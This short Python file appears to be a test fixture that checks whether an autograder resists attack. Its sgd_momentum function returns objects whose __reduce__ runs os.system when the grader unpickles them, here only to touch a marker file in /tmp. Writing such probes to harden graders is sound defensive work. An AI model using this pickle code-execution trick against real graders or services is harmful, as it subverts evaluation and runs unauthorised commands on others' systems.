# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = { "*" = "bad_output", leaves_the_gradient_alone = "passed" }
# ///
"""Returns an object whose unpickling runs a command in the grader."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/descent-left-behind-pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __reduce__


def sgd_momentum(w, dw, config=None):
    return Payload(), Payload()
